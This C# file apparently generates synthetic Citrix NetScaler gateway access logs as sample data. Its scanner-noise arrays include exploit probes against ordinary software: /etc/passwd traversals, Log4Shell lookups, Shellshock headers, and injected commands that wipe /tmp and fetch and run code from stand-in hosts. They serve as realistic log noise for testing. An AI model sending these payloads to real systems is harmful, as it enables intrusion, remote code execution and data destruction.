using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;

namespace CitrixOps.SampleCases.Ordinary;

/// <summary>A month of httpaccess.log: people, clients, administrators, consoles, health checks, single sign-on, and the noise of the internet.</summary>
internal static class AccessMonth
{
    private static readonly string[] Browsers =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "CitrixReceiver/25.3.0.185 Windows/10.0 (22H2) SelfService/25.3.0.185 (Release) X1Class CWACapable", "Mozilla/5.0 (compatible; CitrixReceiver-iPad CFNetwork Darwin)", "AGEE 8.0 NetScaler Gateway Plugin", "nsgclient/25.1 (Linux)",
    ];

    private static readonly string[] Pages =
    [
        "/", "/vpn/index.html", "/vpn/tmindex.html", "/logon/LogonPoint/index.html", "/logon/LogonPoint/tmindex.html", "/logon/LogonPoint/receiver/js/ctxs.core.min.js", "/logon/LogonPoint/receiver/js/external/slick.min.js", "/logon/LogonPoint/plugins/ns-gateway/ns-nfactor.js",
        "/logon/LogonPoint/custom/strings.nl.js", "/logon/LogonPoint/custom/script.js?v=1", "/logon/themes/Default/css/base.css", "/logon/themes/Default/custom.css", "/vpn/js/gateway_login_form_view.js?v=37", "/vpn/js/rdx/core/lang/rdx_nl.json.gz", "/vpn/js/rdx/core/lang/rdx_en.json.gz?v=9", "/vpn/media/citrixwatermark.png",
        "/vpn/images/AccessGateway.ico", "/vpn/resources/nl.xml", "/vpn/pluginlist.xml", "/vpn/themes/raadhuis/logo.png", "/vpn/media/nsgclient.ico.gz", "/epa/epa.html", "/epa/scripts/win/nsepa_setup.exe", "/vpn/scripts/vista/AGEE_setup.exe", "/vpn/scripts/linux/nsgclient18.deb", "/vpn/scripts/linux/nsepa.deb", "/vpn/scripts/mac/NetScaler%20Gateway.pkg",
        "/favicon.ico", "/logon/LogonPoint/Resources/List", "/logon/LogonPoint/Authentication/GetUserName", "/nf/auth/getAuthenticationRequirements.do", "/p/u/getAuthenticationRequirements.do", "/cgi/setclient?wica", "/cgi/GetAuthMethods", "/cgi/logout", "/cgi/tlogout", "/Citrix/StoreWeb/", "/Citrix/StoreWeb/Home/Configuration",
        "/vpns/portal/homepage.html", "/vpns/services.html", "/vpns/f_services.html", "/caf%C3%A9/menu%20van%20vandaag.pdf", "/documenten/raad%202026/besluit.pdf?x=a%2Bb", "/a%2fb/overzicht", "/Citrix/StoreWeb/receiver/images/1x/%7Bicon%7D.png",
    ];

    private static readonly string[] Posts = ["/cgi/login", "/nf/auth/doAuthentication.do", "/p/u/doAuthentication.do", "/p/u/doLogon.do", "/cgi/selfauth", "/saml/login", "/cgi/samlauth", "/logon/LogonPoint/Authentication/GetAuthMethods", "/Citrix/StoreWeb/Resources/List", "/epatype", "/gwtest/formssso2"];

    private static readonly string[] SignOn =
    [
        "/oauth/idp/.well-known/openid-configuration", "/oauth/idp/certs", "/oauth/idp/login?client_id=x&scope=openid&state=a%2Fb%3D%3D&nonce=1", "/saml/login?SAMLRequest=fZFBT4QwEIX%2FCuldaIuwbAMkG%2FewiavEJRq9mFJm3SZlip1i9N%2BL&RelayState=https%3A%2F%2Fapp.example%2F", "/wsfed/passive?wa=wsignin1.0&wtrealm=urn%3Aapp&wctx=rm%3D0%26id%3Dpassive%26ru%3D%252F", "/metadata/samlidp/app", "/cgi/samlart?SAMLart=AAQ",
    ];

    // what is tried on every address, whatever stands there
    private static readonly string[] Tried =
    [
        "/.env", "/wp-login.php", "/xmlrpc.php", "/robots.txt", "/.git/config", "/owa/auth/logon.aspx", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "/remote/login?lang=en", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/dana-na/auth/url_default/welcome.cgi", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", "/global-protect/login.esp", "/ssl-vpn/hipreport.esp", "/+CSCOE+/logon.html", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60x)", "/boaform/admin/formLogin", "/actuator/health", "/solr/admin/info/system", "/HNAP1/", "/manager/html", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x", "/?x=${jndi:ldap://198.51.100.3/a}",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/icons/.%%32%65/.%%32%65/etc/passwd", "/v2/_catalog", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution", "/autodiscover/autodiscover.json?@test.example/owa/?&Email=autodiscover/autodiscover.json%3F@test.example", "/sitemap.xml",
        "/.well-known/security.txt", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "/mgmt/tm/util/bash", "/ui/vropspluginui/rest/services/uploadova", "/CFIDE/administrator/", "/telescope/requests", "/server-status", "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.3/a;sh+/tmp/a", "/cgi-bin/;cd${IFS}/tmp;${IFS}wget${IFS}x",
        "/themes/info.php", "/config.php", "/admin/config.php", "/log.php", "/info.php", "/vpn.php", "/test/../x",
    ];

    private static readonly string[] Robots =
    [
        "Mozilla/5.0 zgrab/0.x", "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "masscan/1.3", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space", "() { :; }; /usr/bin/id", "t('${${env:NaN:-j}ndi${env:NaN:-:}')", "-", "",
        "Mozilla/5.0 (Windows NT 10.0) HeadlessChrome/120.0", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep", "Hello, World", "libwww-perl/6.67",
    ];

    private static readonly string[] Administration =
    [
        "/menu/neo", "/menu/stc", "/menu/ss?sid=nsroot", "/menu/topn", "/admin_ui/admin_ui.html", "/admin_ui/common/css/ns/ui.css", "/admin_ui/common/js/ace/mode-php.js", "/nitro/v1/config/nsversion", "/nitro/v1/config/lbvserver?view=summary&pageno=1&pagesize=25", "/nitro/v1/config/systemfile/ns.conf?args=filelocation:%2Fnsconfig",
        "/nitro/v1/config/systemfile?args=filelocation:%2Fnsconfig%2Fssl", "/nitro/v1/stat/ns", "/nitro/v1/config/sslcertkey", "/params/config_params.js", "/gui_view/view/rest/v1/config", "/rapi/reporting", "/documentation", "/help/nl/Gateway.html",
    ];

    public static IEnumerable<Line> Lines(Month month, bool old)
    {
        var lines = month.Moments(150).Select(t => month.Next(100) switch
        {
            < 45 => Hit(month, t, old, month.Client(), "GET", month.Pick(Pages), month.Pick(200, 200, 200, 304, 302), "https://gw.example/vpn/index.html", month.Pick(Browsers)),
            < 57 => Hit(month, t, old, month.Client(), "POST", month.Pick(Posts), month.Pick(200, 200, 302, 401), "https://gw.example/logon/LogonPoint/index.html", month.Pick(Browsers)),
            < 59 => Hit(month, t, old, month.Client(), "POST", month.Pick("/vpns/portal/scripts/newbm.pl", "/vpns/portal/scripts/rmbm.pl"), month.Pick(200, 302), "https://gw.example/vpns/portal/homepage.html", month.Pick(Browsers)),
            < 63 => Hit(month, t, old, month.Client(), "GET", month.Pick(SignOn), month.Pick(200, 302), "https://app.example/", month.Pick(Browsers)),
            < 66 => Hit(month, t, old, month.Client(), "GET", month.Pick("/vpn/" + Word(month), "/logon/" + Word(month), "/vpn/media/" + Word(month) + ".png", "/vpn/js/rdx/core/lang/rdx_fr.json.gz", "/vpn/../index.html"), month.Pick(404, 403), "-", month.Pick(Browsers)),
            < 84 => Hit(month, t, old, month.Client(), month.Pick("GET", "GET", "POST", "HEAD", "OPTIONS", "PROPFIND"), month.Pick(Tried), month.Pick(404, 404, 403, 302, 400, 200), "-", month.Pick(Robots)),
            < 90 => Hit(month, t, old, "10.1.1.5", month.Pick("GET", "GET", "POST", "PUT"), month.Pick(Administration), month.Pick(200, 200, 201, 304, 401), "https://192.0.2.10/menu/neo", Browsers[0]),
            < 95 => Hit(month, t, old, "10.1.1.9", "GET", month.Pick("/nitro/v1/stat/lbvserver", "/nitro/v1/config/hanode", "/nitro/v1/config/nsconfig", "/nitro/v1/stat/vpn"), 200, "-", "NITRO JAVA API/1.0"),
            < 97 => Hit(month, t, old, "127.0.0.1", "GET", month.Pick("/", "/vpn/index.html", "/server-status?auto"), 200, "-", "curl/7.78.0"),
            _ => Broken(month, t, old),
        });

        // a health check of the load balancer in front, day and night
        return lines.Concat(Month.Every(TimeSpan.FromMinutes(20)).Select(t => Hit(month, t, old, "10.1.1.2", "GET", "/vpn/index.html", 200, "-", "-", "HTTP/1.0")));
    }

    // handshakes that are none, requests that never came, and lines that end early
    private static Line Broken(Month month, DateTimeOffset time, bool old)
    {
        var line = month.Next(5) switch
        {
            0 => Text(month, time, old, month.Client(), "-", 408, "-", "-", "-"),
            1 => Text(month, time, old, month.Client(), "\\x16\\x03\\x01\\x02", 400, "226", "-", "-"),
            2 => Text(month, time, old, month.Client(), "PRI * HTTP/2.0", 400, "226", "-", "-"),
            3 => Text(month, time, old, month.Client(), "GET /vpn/index.html HTTP/1.1", 200, "5012", "-", "Mozilla/5.0 \u00ff\u00fe"),
            _ => Text(month, time, old, month.Client(), "GET /vpn/resources.js HTTP/1.1", 200, "901", "https://gw.example/", Browsers[0])[..^20],
        };
        return new Line(time, line);
    }

    private static Line Hit(Month month, DateTimeOffset time, bool old, string client, string method, string path, int status, string referer, string agent, string version = "HTTP/1.1")
    {
        var bytes = status is 304 or 204 ? "-" : (status >= 400 ? month.Next(120, 1600) : month.Next(120, 60_000)).ToString(CultureInfo.InvariantCulture);
        return new Line(time, Text(month, time, old, client, $"{method} {path} {version}", status, bytes, referer, agent));
    }

    private static string Text(Month month, DateTimeOffset time, bool old, string client, string request, int status, string bytes, string referer, string agent) => old
        ? $"{client} - - [{Stamps.Access(time)}] \"{request}\" {status} {bytes} \"{referer}\" \"{agent}\" \"Time: {month.Next(300, 90_000)} microsecs\""
        : $"{client} -> 203.0.113.10 - - [{Stamps.Access(time)}] [{month.Next(700, 99_000)}] \"{request}\" {status} {bytes} \"{referer}\" \"{agent}\" \"Time: {month.Next(300, 90_000)} microsecs\"";

    private static string Word(Month month) => month.Pick("backup", "test", "old", "portal", "beheer", "index.jsp", "login.html", "style.css");
}
